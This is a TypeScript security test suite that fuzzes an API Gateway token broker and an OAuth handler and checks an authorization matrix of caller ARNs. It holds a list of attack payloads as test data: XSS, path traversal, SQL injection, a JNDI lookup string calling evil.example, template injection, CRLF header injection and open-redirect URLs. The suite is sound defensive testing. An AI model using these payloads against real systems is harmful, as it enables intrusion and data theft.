/**
 * Hostile and malformed input on every route, through the production composition of both
 * functions: property-based fuzzing (fast-check) of API Gateway events, and the authorization
 * matrix (callers x orgs x routes). Invariants: only documented statuses and categories, JSON
 * error bodies well-formed, no stack trace or internal detail, reflected values escaped, no
 * open redirect, no secret in any output or log.
 *
 * Sized to run in a few seconds; `RELIABILITY_SCALE=full` runs many more cases.
 */
import type { APIGatewayProxyEvent, APIGatewayProxyResult } from 'aws-lambda';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isCategory } from '../../lambda/core/categories';
import { selectBindingCookiePolicy } from '../../lambda/core/cookies';
import type { RestHandler } from '../../lambda/handlers/rest-handler';
import { buildRestEvent, createLambdaContext } from '../../local/rest-event';
import { type CapturedOutput, captureOutput, findSecrets } from '../support/logs';
import { checkResponse } from '../support/openapi';
import { INTERNAL_DETAIL } from './support/assertions';
import { recordFigures } from './support/figures';
import {
  CALLER,
  CALLER_ROLE,
  LOGIN_HOST,
  OAUTH_ROUTES,
  PUBLIC_BASE_URL,
  REDIRECT_URI,
  ROUTES,
  type Stack,
  startStack,
  type TokenHandler,
} from './support/stack';

const FULL = process.env.RELIABILITY_SCALE === 'full';
const RUNS = FULL ? 5000 : 300;
const figures = recordFigures('hostile-input');
const COOKIE = selectBindingCookiePolicy(PUBLIC_BASE_URL).name;

let stack: Stack;
let tokenHandler: TokenHandler;
let oauthHandler: RestHandler;
let output: CapturedOutput;
const issuedTokens: string[] = [];

beforeAll(async () => {
  stack = await startStack();
  await stack.addOrg('acme');
  await stack.addOrg('not-approved', { approved: false });
  tokenHandler = stack.createHandler();
  oauthHandler = stack.createOAuthHandler();
  output = captureOutput();
});

afterAll(async () => {
  output.stop();
  const secrets = findSecrets(output.text() + JSON.stringify(stack.events()), [
    ...issuedTokens,
    stack.material.privateKeyPem,
  ]);
  figures.figures.secretsFound += secrets.length;
  figures.flush();
  await stack.close();
  expect(secrets).toEqual([]);
});

/** Payloads aimed at escaping, injection, path tricks, redirects and log forging. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  'javascript:alert(1)',
  '//evil.example/steal',
  'https://evil.example/callback',
  '../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  "acme'; DROP TABLE orgs;--",
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  'constructor',
  'line\nforged {"level":"ERROR"}',
  '\u0000\u202e\uFEFF',
  'acme\r\nSet-Cookie: x=y',
];
const XSS_MARKERS = /<script>alert|<img src=x|<svg onload/i;

const text = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...ATTACKS),
  fc.string().map(encodeURIComponent),
  fc.constantFrom(...ATTACKS).map(encodeURIComponent),
  fc.integer({ min: 1_000, max: 20_000 }).map((n) => 'a'.repeat(n)),
);
// Weighted towards valid values too, so every class of answer (200, 403, 502) is reached.
const orgIdArb = fc.oneof(
  { arbitrary: fc.constantFrom('acme', 'not-approved', 'ghost'), weight: 4 },
  fc.constantFrom('ACME', 'acme-', '-acme', 'a'.repeat(64)),
  fc.stringMatching(/^[a-z0-9-]{1,70}$/),
  text,
);
const bodyArb = fc.oneof(
  { arbitrary: fc.constant(null), weight: 4 },
  fc.constant(''),
  fc.constantFrom('{"forceRefresh":true}', '{"forceRefresh":false}', '{}', 'null', '[]', '"x"'),
  fc.json(),
  text,
  fc.integer({ min: 1, max: 20_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
  fc.integer({ min: 1, max: 5_000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
  fc.integer({ min: 100_000, max: 1_000_000 }).map((n) => `{"forceRefresh":"${'x'.repeat(n)}"}`),
  fc.constant('{"forceRefresh":true,"__proto__":{"admin":true}}'),
);
const callerArb = fc.oneof(
  { arbitrary: fc.constant(CALLER), weight: 4 },
  fc.constant(null),
  fc.constantFrom(
    CALLER_ROLE,
    'arn:aws:sts::123456789012:assumed-role/Other/s',
    'arn:aws:iam::123456789012:root',
    '*',
  ),
  text,
);
const queryArb = fc.dictionary(
  fc.oneof(
    fc.constantFrom('org', 'state', 'code', 'error', 'error_description', 'redirect_uri', 'next'),
    text,
  ),
  fc.array(text, { minLength: 1, maxLength: 3 }),
  { maxKeys: 5 },
);
const headersArb = fc.dictionary(
  fc.constantFrom('Cookie', 'Content-Type', 'Origin', 'Referer', 'X-Forwarded-For', 'Accept'),
  fc.oneof(
    text,
    text.map((value) => `${COOKIE}=${value}`),
  ),
  { maxKeys: 4 },
);
const methodArb = fc.constantFrom('GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'HEAD', 'OPTIONS');

const requestArb = fc.record({
  route: fc.constantFrom(
    ...(Object.keys(ROUTES) as (keyof typeof ROUTES)[]),
    ...(Object.keys(OAUTH_ROUTES) as (keyof typeof OAUTH_ROUTES)[]),
  ),
  otherMethod: fc.oneof({ arbitrary: fc.constant(null), weight: 5 }, methodArb),
  orgId: orgIdArb,
  query: fc.oneof(
    { arbitrary: fc.constant({}), weight: 2 },
    {
      arbitrary: fc.constantFrom<Record<string, string[]>>(
        { org: ['acme'] },
        { org: ['not-approved'] },
        { org: ['acme', 'ghost'] },
        { org: ['acme'], redirect_uri: ['https://evil.example/cb'] },
      ),
      weight: 2,
    },
    queryArb,
  ),
  headers: fc.oneof({ arbitrary: fc.constant({}), weight: 2 }, headersArb),
  body: bodyArb,
  isBase64Encoded: fc.boolean(),
  callerArn: callerArb,
});

type FuzzRequest = typeof requestArb extends fc.Arbitrary<infer T> ? T : never;

const valid: FuzzRequest = {
  route: 'token',
  otherMethod: null,
  orgId: 'acme',
  query: {},
  headers: {},
  body: null,
  isBase64Encoded: false,
  callerArn: CALLER,
};
/** Run before the generated cases, so each class of answer is met whatever the seed. */
const EXAMPLES: [FuzzRequest][] = [
  [valid],
  [{ ...valid, callerArn: 'arn:aws:sts::123456789012:assumed-role/Other/s' }],
  [{ ...valid, orgId: 'ghost' }],
  [{ ...valid, orgId: 'not-approved' }],
  [{ ...valid, body: '{"forceRefresh":' }],
  [{ ...valid, route: 'authorize', query: { org: ['acme'] } }],
  [{ ...valid, route: 'callback', query: { state: ['x'], code: ['y'] } }],
];

function toEvent(request: FuzzRequest): APIGatewayProxyEvent {
  const route =
    request.route in ROUTES
      ? ROUTES[request.route as keyof typeof ROUTES]
      : OAUTH_ROUTES[request.route as keyof typeof OAUTH_ROUTES];
  const method = request.otherMethod ?? route.method;
  const isToken = route.resource.startsWith('/orgs/');
  return buildRestEvent({
    method,
    resource: route.resource,
    path: route.resource.replace('{orgId}', encodeURIComponent(request.orgId)),
    pathParameters: isToken ? { orgId: request.orgId } : null,
    query: request.query,
    headers: request.headers,
    body: request.body,
    isBase64Encoded: request.isBase64Encoded,
    callerArn: isToken ? request.callerArn : null,
  });
}

function problemsOf(event: APIGatewayProxyEvent, response: APIGatewayProxyResult): string[] {
  const problems: string[] = [];
  const headers = Object.fromEntries(
    Object.entries(response.headers ?? {}).map(([k, v]) => [k.toLowerCase(), String(v)]),
  );
  const body = response.body ?? '';
  // 502 is Salesforce's verdict (the not-approved org); 500 and 503 mean a fault, and none is injected.
  if (response.statusCode >= 500 && response.statusCode !== 502) {
    problems.push(`status ${response.statusCode} without a fault`);
  }
  if (INTERNAL_DETAIL.test(body))
    problems.push(`internal detail: ${INTERNAL_DETAIL.exec(body)?.[0]}`);
  if (headers['cache-control'] !== 'no-store') problems.push('Cache-Control is not no-store');
  const isToken = event.resource.startsWith('/orgs/');
  if (isToken) {
    const documented = checkResponse(event.httpMethod, event.resource, response);
    if (documented.length > 0 && !documented[0]?.includes('is not documented')) {
      problems.push(...documented);
    }
    if (response.statusCode >= 400) {
      let json: Record<string, unknown> | undefined;
      try {
        json = JSON.parse(body) as Record<string, unknown>;
      } catch {
        problems.push('error body is not JSON');
      }
      if (json && !(isCategory(json.error) || json.error === 'internal_error')) {
        problems.push(`undocumented error code ${String(json.error)}`);
      }
    }
    if (response.statusCode === 200 && event.resource.endsWith('/token')) {
      issuedTokens.push(String((JSON.parse(body) as { access_token: string }).access_token));
    } else if (findSecrets(body).length > 0) problems.push('secret-shaped value in the body');
  } else {
    if (XSS_MARKERS.test(body)) problems.push('unescaped markup reflected in the page');
    if (response.statusCode === 302) {
      const location = new URL(headers.location ?? 'about:blank');
      const expected = new URL(stack.emulator.hostUrl(LOGIN_HOST));
      if (location.origin !== expected.origin || !location.pathname.startsWith(expected.pathname)) {
        problems.push(`redirect off the org's login host: ${location.href.slice(0, 80)}`);
      }
      if (location.searchParams.get('redirect_uri') !== REDIRECT_URI) {
        problems.push('redirect_uri is not the registered one');
      }
    } else if (response.statusCode !== 405 && !headers['content-type']?.startsWith('text/html')) {
      problems.push(`OAuth answer is not an HTML page: ${headers['content-type']}`);
    }
    if (findSecrets(body).length > 0) problems.push('secret-shaped value in the page');
  }
  return problems;
}

describe('property-based fuzzing of every route (fast-check)', () => {
  it(`answers ${RUNS} generated API Gateway events within the contract`, async () => {
    const statuses: Record<string, number> = {};
    await fc.assert(
      fc.asyncProperty(requestArb, async (request) => {
        const event = toEvent(request);
        const handler = event.resource.startsWith('/orgs/') ? tokenHandler : oauthHandler;
        const response = (await handler(event, createLambdaContext())) as APIGatewayProxyResult;
        figures.figures.fuzzCases += 1;
        const key = `${event.resource.startsWith('/orgs/') ? 'token' : 'oauth'} ${response.statusCode}`;
        statuses[key] = (statuses[key] ?? 0) + 1;
        const problems = problemsOf(event, response);
        if (problems.length > 0) figures.figures.errors += 1;
        expect(problems, `${event.httpMethod} ${event.path}`).toEqual([]);
      }),
      { numRuns: RUNS, endOnFailure: true, examples: EXAMPLES },
    );
    // Only a link the broker signed starts an approval; the generated ones never are.
    const signed = buildRestEvent({
      method: 'GET',
      resource: OAUTH_ROUTES.authorize.resource,
      path: OAUTH_ROUTES.authorize.resource,
      query: await stack.approvalLinkQuery('acme'),
    });
    const started = (await oauthHandler(signed, createLambdaContext())) as APIGatewayProxyResult;
    expect(problemsOf(signed, started)).toEqual([]);
    statuses[`oauth ${started.statusCode}`] = 1;
    // Every class of answer was reached, not only the 400s (the examples guarantee it).
    expect(Object.keys(statuses), JSON.stringify(statuses)).toEqual(
      expect.arrayContaining([
        'token 200',
        'token 400',
        'token 403',
        'token 502',
        'oauth 302',
        'oauth 400',
      ]),
    );
  });

  it('bodies at the limits: deep nesting, huge, base64 of garbage, invalid UTF-8', async () => {
    const bodies: [string, boolean][] = [
      [`${'['.repeat(100_000)}${']'.repeat(100_000)}`, false],
      ['x'.repeat(6_000_000), false],
      [Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28]).toString('base64'), true],
      ['!!!not base64!!!', true],
      [`{"forceRefresh":true${',"x":1'.repeat(200)}}`, false],
    ];
    for (const [body, isBase64Encoded] of bodies) {
      const event = buildRestEvent({
        method: 'POST',
        resource: ROUTES.token.resource,
        path: '/orgs/acme/token',
        pathParameters: { orgId: 'acme' },
        body,
        isBase64Encoded,
        callerArn: CALLER,
      });
      const response = (await tokenHandler(event, createLambdaContext())) as APIGatewayProxyResult;
      figures.figures.fuzzCases += 1;
      expect(problemsOf(event, response)).toEqual([]);
      expect([200, 400]).toContain(response.statusCode);
    }
  });
});

describe('authorization matrix: callers x orgs x routes, deny by default', () => {
  const ACCOUNT = '123456789012';
  const callers: [string, string | null, readonly string[]][] = [
    // [name, userArn as API Gateway reports it, orgs it may use]
    ['assumed-role session of the allowed role', CALLER, ['team-a']],
    [
      'another session of the allowed role',
      `arn:aws:sts::${ACCOUNT}:assumed-role/Fulfilment/other`,
      ['team-a'],
    ],
    ['the allowed role ARN itself', CALLER_ROLE, ['team-a']],
    ['the allowed role with a path', `arn:aws:iam::${ACCOUNT}:role/service/Fulfilment`, ['team-a']],
    ['the allowed IAM user', `arn:aws:iam::${ACCOUNT}:user/alice`, ['team-b']],
    [
      'a role of the same name in another account',
      'arn:aws:sts::999999999999:assumed-role/Fulfilment/s',
      [],
    ],
    [
      'a role whose name extends the allowed one',
      `arn:aws:sts::${ACCOUNT}:assumed-role/FulfilmentX/s`,
      [],
    ],
    ['the allowed name in another case', `arn:aws:sts::${ACCOUNT}:assumed-role/fulfilment/s`, []],
    [
      'the allowed role in another partition',
      `arn:aws-cn:sts::${ACCOUNT}:assumed-role/Fulfilment/s`,
      [],
    ],
    ['a federated user', `arn:aws:sts::${ACCOUNT}:federated-user/alice`, []],
    ['the account root', `arn:aws:iam::${ACCOUNT}:root`, []],
    ['a user whose name prefixes the allowed one', `arn:aws:iam::${ACCOUNT}:user/alic`, []],
    ['a wildcard', '*', []],
    ['an empty principal', '', []],
    ['no principal (public route misconfigured)', null, []],
  ];
  const orgs = ['team-a', 'team-b', 'team-empty', 'ghost'] as const;

  beforeAll(async () => {
    const base = { approved: true };
    const a = await stack.addOrg('team-a', base);
    await stack.registry.putOrg(a);
    const b = await stack.addOrg('team-b', base);
    await stack.registry.putOrg({ ...b, callers: [`arn:aws:iam::${ACCOUNT}:user/alice`] });
    const empty = await stack.addOrg('team-empty', base);
    await stack.registry.putOrg({ ...empty, callers: [] });
  });

  it(`${callers.length} callers x ${orgs.length} orgs x 3 routes`, async () => {
    const handler = stack.createHandler();
    const mismatches: string[] = [];
    for (const [name, callerArn, allowed] of callers) {
      for (const orgId of orgs) {
        for (const route of Object.keys(ROUTES) as (keyof typeof ROUTES)[]) {
          const response = await stack.invoke({ route, orgId, callerArn }, handler);
          figures.figures.authorizationCases += 1;
          // An unregistered org is refused like an org the caller is not listed for.
          const expected =
            orgId === 'ghost'
              ? 403
              : allowed.includes(orgId)
                ? route === 'invalidate'
                  ? 204
                  : 200
                : 403;
          if (response.statusCode === 200 && route === 'token') {
            issuedTokens.push(String(response.json.access_token));
          }
          if (response.statusCode !== expected || response.contractProblems.length > 0) {
            mismatches.push(
              `${name} ${route} ${orgId}: ${response.statusCode}, expected ${expected}`,
            );
          }
        }
      }
    }
    expect(mismatches).toEqual([]);
  });

  it.each([
    [
      'no identity block',
      (event: APIGatewayProxyEvent) => {
        (event.requestContext as { identity?: unknown }).identity = undefined;
      },
    ],
    [
      'no request context',
      (event: APIGatewayProxyEvent) => {
        (event as { requestContext?: unknown }).requestContext = undefined;
      },
    ],
    [
      'an identity with only accountId and caller',
      (event: APIGatewayProxyEvent) => {
        (event.requestContext.identity as { userArn: string | null }).userArn = null;
      },
    ],
    [
      'the principal in a header instead of the identity',
      (event: APIGatewayProxyEvent) => {
        (event.requestContext.identity as { userArn: string | null }).userArn = null;
        event.headers['X-Amz-User-Arn'] = CALLER;
      },
    ],
  ])('missing identity (%s): 403 caller_not_authorized on every route', async (_, mutate) => {
    for (const route of Object.values(ROUTES)) {
      const event = buildRestEvent({
        method: route.method,
        resource: route.resource,
        path: route.resource.replace('{orgId}', 'team-a'),
        pathParameters: { orgId: 'team-a' },
        callerArn: CALLER,
      });
      mutate(event);
      const response = (await tokenHandler(event, createLambdaContext())) as APIGatewayProxyResult;
      figures.figures.authorizationCases += 1;
      expect(response.statusCode).toBe(403);
      expect(JSON.parse(response.body)).toMatchObject({ error: 'caller_not_authorized' });
    }
  });
});
